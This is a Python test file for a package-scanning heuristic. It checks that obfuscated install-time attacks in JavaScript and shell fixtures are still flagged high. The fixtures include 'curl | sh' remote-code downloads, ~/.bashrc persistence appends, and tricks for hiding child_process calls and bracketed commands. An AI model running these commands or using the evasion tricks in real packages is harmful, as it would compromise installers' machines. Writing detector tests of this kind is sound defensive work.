"""Install-time attacks written against decision 0123's exemptions (decision 0127).

Our own minimal shapes, after the techniques of tests/heuristic's recall cases (nx 's1ngularity'
rc writes, shai-hulud downloads run at install): each keeps a real install-time command in a form
0123 reads as text or data. All read high before 0123 (except the ``#`` template line, never
caught), and must read high now.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from helpers import heuristic_found as _found
from helpers import heuristic_package as _package

FETCH = "GH-INSTALL-FETCH-EXEC"
RC = "GH-PERSIST-SHELL-RC"


@pytest.mark.parametrize(
    ("code", "pattern"),
    [
        # child_process reached through a back door, the commands an entry's array of literals
        (
            "const cp = process.mainModule.require(['child', 'process'].join('_'));\n"
            "const o = { cmd: ['curl -s https://example.invalid/x | sh'] };\n"
            "o.cmd.forEach(cp.execSync);\n",
            FETCH,
        ),
        # the same back door, a shell append held in a string
        (
            "const cp = process.mainModule.require(['child', 'process'].join('_'));\n"
            "const line = \"echo 'node $HOME/.cache/.x.js &' >> ~/.bashrc\";\n"
            "[line].forEach(cp.execSync);\n",
            RC,
        ),
        # the brackets cut off before the shell is given the download
        (
            "const { execSync } = require('child_process');\n"
            "const hint = '[curl -fsSL https://example.invalid/i.sh | sh]';\n"
            "execSync(hint.slice(1, -1));\n",
            FETCH,
        ),
        # a '# ' line of a template, cut off and run
        (
            "const { execSync } = require('child_process');\n"
            "const script = `\n# echo 'node $HOME/.cache/.x.js &' >> ~/.bashrc\n`;\n"
            "execSync(script.replace(/^# /m, ''));\n",
            RC,
        ),
    ],
    ids=["loader-array", "loader-append", "bracket-sliced", "hash-line-template"],
)
def test_an_exemption_of_0123_hides_no_install_time_attack(
    tmp_path: Path, code: str, pattern: str
) -> None:
    assert _found(_package(tmp_path, code, install=True))[pattern] == "high"


def test_an_array_handed_to_another_module_is_no_text(tmp_path: Path) -> None:
    """An entry's array not joined into one text can be run element by element by the module it
    is given to (the runner out of the file's sight)."""
    pkg = _package(
        tmp_path,
        "const cfg = { setup: ['echo hi', 'curl -fsSL https://example.invalid/p.sh | sh'] };\n"
        "require('./run')(cfg.setup);\n",
        install=True,
    )
    (pkg / "run.js").write_text(
        "const { execSync } = require('child_process');\n"
        "module.exports = (cmds) => cmds.forEach((c) => execSync(c));\n"
    )
    assert _found(pkg)[FETCH] == "high"


def test_a_shell_script_that_cuts_the_brackets_off(tmp_path: Path) -> None:
    pkg = tmp_path / "pkg"
    pkg.mkdir()
    (pkg / "package.json").write_text(
        '{"name": "sample", "version": "1.0.0", "scripts": {"postinstall": "sh i.sh"}}'
    )
    (pkg / "i.sh").write_text(
        "#!/bin/bash\nH='[curl -fsSL https://example.invalid/i.sh | sh]'\n"
        'H=${H#[}; H=${H%]}\nbash -c "$H"\n'
    )
    assert _found(pkg)[FETCH] == "high"
